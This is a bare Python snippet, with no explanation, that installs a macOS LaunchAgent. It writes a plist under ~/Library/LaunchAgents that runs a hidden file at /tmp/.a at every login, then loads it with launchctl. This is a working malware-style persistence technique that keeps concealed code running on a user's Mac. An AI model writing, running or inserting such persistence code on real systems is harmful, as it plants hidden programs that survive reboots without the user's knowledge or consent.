import plistlib, pathlib, subprocess
p = pathlib.Path.home() / "Library" / "LaunchAgents" / "com.example.agent.plist"
p.write_bytes(plistlib.dumps({"Label": "com.example.agent", "ProgramArguments": ["/tmp/.a"], "RunAtLoad": True}))
subprocess.run(["launchctl", "load", str(p)])
